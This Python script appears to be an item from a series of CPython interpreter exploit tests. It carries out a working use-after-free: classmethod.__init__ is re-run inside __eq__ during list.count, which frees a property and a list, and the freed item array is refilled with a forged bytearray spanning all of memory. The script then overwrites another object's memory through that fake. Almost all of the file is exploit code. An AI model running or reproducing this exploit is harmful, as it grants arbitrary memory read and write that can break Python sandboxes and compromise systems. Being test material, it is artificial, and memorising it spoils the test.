# family: wall (memory: classmethod.__init__ run again from its own __get__ frees the wrapped property)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X116 of our own: 3.11's classmethod __get__ calls the __get__ of the
# callable it wraps, with that callable borrowed; classmethod.__init__ may be called
# again and replaces it. cm wraps a property whose getter is lst.count (each the
# other's only holder): C.m runs property_descr_get, list_count, and x.__eq__
# re-initialises cm, which frees the property, its getter and the list; the freed
# item array is refilled as [0, fake]. The wall: classmethod is initialised once.
keep = []
W = lambda v: v.to_bytes(8, "little")
class BA(bytearray):
    def __eq__(self, other):
        keep.append(self)              # self: the fake bytearray over all memory
        return False
FAKEOBJ = W(1 << 40) + W(id(BA)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
h1 = bytes(FAKEOBJ)                    # the fake bytearray: data at id(h1) + 32
ITEMS = (W(0) + W(id(h1) + 32))[:15]   # bytearray(15 bytes) -> a 16-byte buffer: the freed ob_item
def refill():
    k1 = bytearray(ITEMS); k2 = bytearray(ITEMS); k3 = bytearray(ITEMS); k4 = bytearray(ITEMS)
    keep.extend((k1, k2, k3, k4))
class X:
    def __eq__(self, other):
        cm.__init__(None)                         # drops the bound list.count, then its list (ob_item freed)
        refill()
        return False
x, y = X(), X()
lst = [x, y]
cm = classmethod(property(lst.count))
del lst
class C:
    m = cm
try:
    print("C.m ->", C.m)               # cm_descr_get -> property_descr_get -> list_count(lst, C)
except Exception as e:
    print("get:", type(e).__name__, e)
found = [k for k in keep if type(k) is BA]
if found:
    mem = found[0]
    print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
    target = bytearray(b"AAAAAAAA")    # another object's memory, written through the fake
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")   # its ob_start
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
